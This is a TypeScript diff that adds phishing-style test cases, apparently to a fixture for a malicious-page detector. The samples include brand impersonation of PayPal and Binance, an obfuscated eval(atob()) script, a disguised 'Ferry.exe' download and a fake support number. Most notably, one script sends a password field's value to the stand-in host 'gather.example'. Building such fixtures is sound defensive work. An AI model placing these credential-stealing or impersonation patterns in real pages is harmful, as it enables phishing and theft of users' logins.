@@ -14,6 +14,13 @@ const whole = `<iframe src="${elsewhere}" style="position:fixed;inset:0;height:1
 const leaves = `<meta http-equiv="refresh" content="1;url=${elsewhere}">`
 const names = Array.from({ length: 31 }, (_, n) => `_0x${(n + 4096).toString(16)}=1`).join(";")
 
+const typedInto = (field: string) =>
+  `${field}<script>onclick=()=>open("https://gather.example/w?"+encodeURIComponent(f.value))</script>`
+const words = "Moss grows on the north side of the pier. ".repeat(4)
+const decoded = `<script>eval(atob("${"Qm9h".repeat(80)}"))</script>`
+export const broken = Array.from({ length: 8 }, () => `Fe<b class="z">xq</b>rry`).join(" ")
+export const program = `<a download="Ferry.exe" href="data:application/octet-stream;base64,TVo=">Ferry</a>`
+
 /** A page in an address in a page, and so on. */
 export const nested = Array.from({ length: 6 }).reduce<string>(
   (inner) => `<iframe src="data:text/html,${encodeURIComponent(inner)}"></iframe>`,
@@ -95,6 +102,31 @@ export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
       "head of a letter",
       "Ferry tickets",
       `<div>PayPal</div><img src="https://www.paypalobjects.com/a.png">${login("/in")}`,
+    ),
+  ],
+  [
+    "typed-into-address",
+    site("typed into an address", ours, `<h1>${ours}</h1>${typedInto(`<input type="password">`)}`),
+  ],
+  [
+    "secret-into-address",
+    site("secret into an address", ours, `<h1>${ours}</h1>${typedInto(`<input type="password">`)}`),
+  ],
+  [
+    "decoded-and-asks",
+    site("fields and what is decoded", ours, `<h1>${ours}</h1><p>${words}</p><input name="a">${decoded}`),
+  ],
+  ["letters-in-words", site("letters in words", ours, `<h1>${broken}</h1>${login(elsewhere)}`)],
+  ["title-of-nothing", site("title of nothing", "…", `<h1>${ours}</h1>${typedInto(`<input name="a">`)}`)],
+  ["drops-program", site("program under a name", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
+  ["drops-program-under-name", site("program under a name", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
+  ["coins-under-name", site("coins under a name", "Ferry", `<h1>Binance event</h1><p>bc1q${"a".repeat(30)}</p>`)],
+  [
+    "call-under-name",
+    site(
+      "call under a name",
+      "…",
+      `<h1>${ours}</h1><p>PayPal desk</p><a href="tel:080000000">call</a><input name="a">`,
     ),
   ],
   ["deeper-than-read", site("six pages deep", ours, `<h1>${ours}</h1>${login(`${elsewhere}`)}${nested}`)],
